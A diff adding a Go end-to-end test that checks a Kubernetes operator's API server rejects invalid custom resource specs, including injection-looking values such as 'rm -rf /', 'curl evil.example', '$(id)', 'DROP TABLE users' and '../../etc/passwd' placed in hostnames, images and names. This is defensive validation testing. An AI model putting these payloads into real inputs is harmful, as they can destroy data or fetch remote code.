@@ -586,3 +586,138 @@ func podNames(g Gomega, ns, release string) []string {
 	sort.Strings(names)
 	return names
 }
+
+// TestReliabilityInvalidInputCorpus (issue scenario 8): a table of invalid
+// specs across every kind, including strings that look like shell, template
+// or config injection in names, hostnames and images. The API server
+// refuses each at apply and names the field; none reaches the runtime: no
+// object, no release Secret, no Event.
+func TestReliabilityInvalidInputCorpus(t *testing.T) {
+	ctx := context.Background()
+	const ns = "e2e-rel-corpus"
+	createNamespace(t, ns)
+	const (
+		nginx    = "apiVersion: web.acme.com/v1alpha1\nkind: Nginx"
+		webapp   = "apiVersion: web.acme.com/v1alpha1\nkind: WebApp"
+		tenant   = "apiVersion: tenancy.acme.com/v1alpha1\nkind: NamespaceTenant"
+		scaler   = "apiVersion: autoscaling.acme.com/v1alpha1\nkind: CronScaler"
+		app      = "deploymentTier: dev, webAppImage: registry.acme.com/app/app:v1.4"
+		appHost  = app + ", webAppHostname: app.acme.com"
+		target   = "scaleTargetRef: {apiVersion: apps/v1, kind: Deployment, name: web}"
+		dailyJob = "jobs: [{name: up, schedule: '0 8 * * *', replicas: 2}]"
+	)
+	cases := []struct {
+		kind string // apiVersion and kind lines
+		name string // metadata.name
+		spec string // the spec, as a YAML flow mapping without braces
+		want string // the field path the error must name
+	}{
+		// Nginx: types, enums, bounds, unknown fields.
+		{nginx, "n-replicas-string", `replicaCount: "3"`, "spec.replicaCount"},
+		{nginx, "n-replicas-fraction", `replicaCount: 1.5`, "spec.replicaCount"},
+		{nginx, "n-replicas-negative", `replicaCount: -1`, "spec.replicaCount"},
+		{nginx, "n-pull-policy", `image: {pullPolicy: Sometimes}`, "spec.image.pullPolicy"},
+		{nginx, "n-port-zero", `containerPort: 0`, "spec.containerPort"},
+		{nginx, "n-port-too-high", `containerPort: 65536`, "spec.containerPort"},
+		{nginx, "n-unknown", `replicas: 2`, `unknown field "spec.replicas"`},
+		{nginx, "n-unknown-nested", `ingress: {host: web.acme.com}`, `unknown field "spec.ingress.host"`},
+		{nginx, "n-label-type", `podLabels: {team: 5}`, "spec.podLabels.team"},
+		{nginx, "n-path-relative", `ingress: {path: "api"}`, "spec.ingress.path"},
+		// Nginx: injection-looking strings.
+		{nginx, "n-host-shell", `ingress: {enabled: true, hostname: "web.acme.com; rm -rf /"}`, "spec.ingress.hostname"},
+		{nginx, "n-host-template", `ingress: {enabled: true, hostname: "{{ .Release.Name }}.acme.com"}`, "spec.ingress.hostname"},
+		{nginx, "n-host-newline", `ingress: {enabled: true, hostname: "web.acme.com\n    server_name evil.example"}`, "spec.ingress.hostname"},
+		{nginx, "n-tag-subshell", `image: {tag: "1.27$(id)"}`, "spec.image.tag"},
+		{nginx, "n-repo-shell", `image: {repository: "nginx && curl evil.example"}`, "spec.image.repository"},
+		{nginx, "n-fullname-shell", `fullnameOverride: "web;drop"`, "spec.fullnameOverride"},
+		{nginx, "n-cron-shell", `cronScaling: {enabled: true, jobs: [{name: up, schedule: "* * * * *; rm -rf /", replicas: 1}]}`, "spec.cronScaling.jobs[0].schedule"},
+		{nginx, "web;rm -rf", `replicaCount: 1`, "metadata.name"},
+		// WebApp: required fields, enums, types, unknown and forbidden fields.
+		{webapp, "w-no-image", `deploymentTier: dev, webAppHostname: app.acme.com`, "spec.webAppImage"},
+		{webapp, "w-tier", `deploymentTier: production, webAppImage: registry.acme.com/app/app:v1.4, webAppHostname: app.acme.com`, "spec.deploymentTier"},
+		{webapp, "w-replicas-string", appHost + `, webAppReplicas: "two"`, "spec.webAppReplicas"},
+		{webapp, "w-unknown", appHost + `, replicas: 3`, `unknown field "spec.replicas"`},
+		{webapp, "w-password", appHost + `, database: {auth: {password: hunter2}}`, "spec.database.auth.password"},
+		{webapp, "w-db-port", appHost + `, database: {port: 70000}`, "spec.database.port"},
+		// WebApp: injection-looking hostnames, images and identifiers.
+		{webapp, "w-host-shell", app + `, webAppHostname: "app.acme.com;rm -rf /"`, "spec.webAppHostname"},
+		{webapp, "w-host-subshell", app + `, webAppHostname: "$(reboot).acme.com"`, "spec.webAppHostname"},
+		{webapp, "w-host-quote", app + `, webAppHostname: "app.acme.com\" ; curl evil.example"`, "spec.webAppHostname"},
+		{webapp, "w-host-newline", app + `, webAppHostname: "app.acme.com\nevil.example"`, "spec.webAppHostname"},
+		{webapp, "w-host-wildcard", app + `, webAppHostname: "*.acme.com"`, "spec.webAppHostname"},
+		{webapp, "w-host-too-long", app + `, webAppHostname: "` + strings.Repeat("a", 250) + `.com"`, "spec.webAppHostname"},
+		{webapp, "w-image-shell", `deploymentTier: dev, webAppImage: "registry.acme.com/app:v1;curl evil.example", webAppHostname: app.acme.com`, "spec.webAppImage"},
+		{webapp, "w-db-name-sql", appHost + `, database: {name: "app; DROP TABLE users"}`, "spec.database.name"},
+		{webapp, "app$(id)", appHost, "metadata.name"},
+		// NamespaceTenant.
+		{tenant, "t-ns-shell", `namespaceName: "team;rm", adminUsername: sam`, "spec.namespaceName"},
+		{tenant, "t-ns-upper", `namespaceName: Team-A, adminUsername: sam`, "spec.namespaceName"},
+		{tenant, "t-ns-kube", `namespaceName: kube-system, adminUsername: sam`, "spec.namespaceName"},
+		{tenant, "t-tier", `namespaceName: team-a, adminUsername: sam, deploymentTier: qa`, "spec.deploymentTier"},
+		{tenant, "t-unknown", `namespaceName: team-a, adminUsername: sam, tier: prod`, `unknown field "spec.tier"`},
+		{tenant, "t-admin-type", `namespaceName: team-a, adminUsername: 42`, "spec.adminUsername"},
+		{tenant, "tenant;drop", `namespaceName: team-a, adminUsername: sam`, "metadata.name"},
+		// CronScaler.
+		{scaler, "c-schedule-shell", target + `, jobs: [{name: up, schedule: "* * * * *; rm -rf /", replicas: 1}]`, "spec.jobs[0].schedule"},
+		{scaler, "c-zone-traversal", target + ", " + dailyJob + `, timeZone: ../../etc/passwd`, "spec.timeZone"},
+		{scaler, "c-kind-shell", `scaleTargetRef: {apiVersion: apps/v1, kind: "Deployment;rm", name: web}, ` + dailyJob, "spec.scaleTargetRef.kind"},
+		{scaler, "c-target-subshell", `scaleTargetRef: {apiVersion: apps/v1, kind: Deployment, name: "web$(id)"}, ` + dailyJob, "spec.scaleTargetRef.name"},
+		{scaler, "c-replicas-negative", target + `, jobs: [{name: up, schedule: '0 8 * * *', replicas: -2}]`, "spec.jobs[0].replicas"},
+		{scaler, "c-job-name-shell", target + `, jobs: [{name: "up;down", schedule: '0 8 * * *', replicas: 1}]`, "spec.jobs[0].name"},
+		{scaler, "c-unknown", target + ", " + dailyJob + `, pauseAll: true`, `unknown field "spec.pauseAll"`},
+	}
+	t.Logf("%d invalid specs", len(cases))
+	for _, tc := range cases {
+		t.Run(strings.NewReplacer(";", "_", "$", "_", "(", "_", ")", "_", " ", "_").Replace(tc.name), func(t *testing.T) {
+			g := NewWithT(t)
+			manifest := fmt.Sprintf("%s\nmetadata: {name: %q, namespace: %s}\nspec: {%s}\n", tc.kind, tc.name, ns, tc.spec)
+			if tc.kind == tenant {
+				manifest = fmt.Sprintf("%s\nmetadata: {name: %q}\nspec: {%s}\n", tc.kind, tc.name, tc.spec)
+			}
+			out, err := kubectlIn(manifest, "apply", "-f", "-")
+			g.Expect(err).To(HaveOccurred(), "kubectl apply accepted an invalid spec: %s", out)
+			g.Expect(out).To(ContainSubstring(tc.want))
+			g.Expect(out).NotTo(ContainSubstring("created"))
+		})
+	}
+
+	t.Log("an immutable field cannot change; the release stays as it was")
+	g := NewWithT(t)
+	applyTenant(g, "t-immutable", "e2e-rel-immutable", "")
+	waitDeployed(g, ctx, "t-immutable")
+	h, err := releaseHistory(ctx, operatorNamespace, "t-immutable")
+	g.Expect(err).NotTo(HaveOccurred())
+	out, err := kubectl("patch", "nt", "t-immutable", "--type=merge", "-p", `{"spec":{"namespaceName":"e2e-rel-other"}}`)
+	g.Expect(err).To(HaveOccurred(), out)
+	g.Expect(out).To(ContainSubstring("spec.namespaceName"))
+	g.Consistently(func() (map[int]string, error) { return releaseHistory(ctx, operatorNamespace, "t-immutable") }).
+		WithTimeout(3 * time.Second).Should(Equal(h))
+	deleteTenantAndWait(t, g, ctx, "t-immutable", "e2e-rel-immutable")
+
+	t.Log("nothing reached the runtime: no objects, no release Secrets, no Events")
+	names := map[string]bool{}
+	for _, tc := range cases {
+		names[tc.name] = true
+	}
+	for _, gvk := range []schema.GroupVersionKind{nginxGVK,
+		{Group: "web.acme.com", Version: "v1alpha1", Kind: "WebApp"},
+		{Group: "tenancy.acme.com", Version: "v1alpha1", Kind: "NamespaceTenant"},
+		{Group: "autoscaling.acme.com", Version: "v1alpha1", Kind: "CronScaler"}} {
+		list := &unstructured.UnstructuredList{}
+		list.SetGroupVersionKind(gvk.GroupVersion().WithKind(gvk.Kind + "List"))
+		g.Expect(env.client.List(ctx, list)).To(Succeed())
+		for _, item := range list.Items {
+			g.Expect(names).NotTo(HaveKey(item.GetName()), "%s %s exists", gvk.Kind, item.GetName())
+		}
+	}
+	var secrets corev1.SecretList
+	g.Expect(env.client.List(ctx, &secrets, client.MatchingLabels{"owner": "helm"})).To(Succeed())
+	for _, s := range secrets.Items {
+		g.Expect(names).NotTo(HaveKey(s.Labels["name"]), "release Secret %s/%s", s.Namespace, s.Name)
+	}
+	var events corev1.EventList
+	g.Expect(env.client.List(ctx, &events)).To(Succeed())
+	for _, e := range events.Items {
+		g.Expect(names).NotTo(HaveKey(e.InvolvedObject.Name), "Event %s: %s", e.Reason, e.Message)
+	}
+}
